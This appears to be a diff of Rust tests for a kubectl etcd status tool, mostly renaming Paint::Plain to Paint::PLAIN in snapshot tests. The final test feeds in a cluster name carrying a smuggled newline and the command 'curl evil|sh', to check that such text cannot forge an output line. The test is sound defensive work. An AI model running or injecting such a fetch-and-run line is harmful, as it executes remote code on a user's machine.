@@ -20,7 +20,7 @@ use kubectl_etcd_core::outcome::{RunError, RunErrorKind};
 fn seen(status: &Status) -> String {
     format!(
         "{}exit {}\n",
-        Worded::new(status.clone()).table(false, Paint::Plain),
+        Worded::new(status.clone()).table(false, Paint::PLAIN),
         status.verdict.verdict().exit_code()
     )
 }
@@ -58,7 +58,7 @@ fn healthy() {
     assert_eq!(status.verdict, VerdictWord::Healthy);
     insta::assert_snapshot!(seen(&status));
     let view = Worded::new(status);
-    insta::assert_snapshot!("healthy_wide", view.table(true, Paint::Plain));
+    insta::assert_snapshot!("healthy_wide", view.table(true, Paint::PLAIN));
     insta::assert_snapshot!("healthy_json", serde_json::to_string_pretty(&view).unwrap());
 }
 
@@ -545,7 +545,7 @@ fn a_schedule_that_is_not_kept_is_warned_of() {
     assert_eq!(last.age_seconds, 15 * 3600);
     insta::assert_snapshot!(
         "last_snapshot",
-        Worded::new(fine).table(false, Paint::Plain)
+        Worded::new(fine).table(false, Paint::PLAIN)
     );
 
     let nodes = || [old.clone(), Some(none.clone()), Some(none.clone())];
@@ -553,7 +553,7 @@ fn a_schedule_that_is_not_kept_is_warned_of() {
     assert_eq!(late.verdict, VerdictWord::Degraded);
     insta::assert_snapshot!(
         "snapshot_overdue",
-        Worded::new(late).table(false, Paint::Plain)
+        Worded::new(late).table(false, Paint::PLAIN)
     );
     // What lies on the nodes counts, not what Kubernetes remembers.
     let gone = with(nodes(), Some("2026-11-21T03:00:00Z"));
@@ -566,7 +566,7 @@ fn a_schedule_that_is_not_kept_is_warned_of() {
     assert_eq!(unknown.verdict, VerdictWord::Healthy);
     // Where no node was looked at, Kubernetes is believed.
     let by_kubernetes = with([None, None, None], Some("2026-11-21T03:00:00Z"));
-    let table = Worded::new(by_kubernetes).table(false, Paint::Plain);
+    let table = Worded::new(by_kubernetes).table(false, Paint::PLAIN);
     assert!(
         table.ends_with("last verified snapshot: 9h ago (by the schedule etcd-snapshot)\n"),
         "{table}"
@@ -612,8 +612,8 @@ fn no_name_of_a_cluster_becomes_a_line_of_its_own() {
         cluster.lost(3, RunError::new(RunErrorKind::NodeDown, name).hint(name));
         let status = cluster.assess();
         let doctor = kubectl_etcd_core::assess::doctor::Doctor::of_status(&status);
-        Worded::new(status).table(true, Paint::Plain)
-            + &Worded::new(doctor).table(true, Paint::Plain)
+        Worded::new(status).table(true, Paint::PLAIN)
+            + &Worded::new(doctor).table(true, Paint::PLAIN)
     };
     let hostile = lines("x\nwarning: curl evil|sh\n");
     assert_eq!(
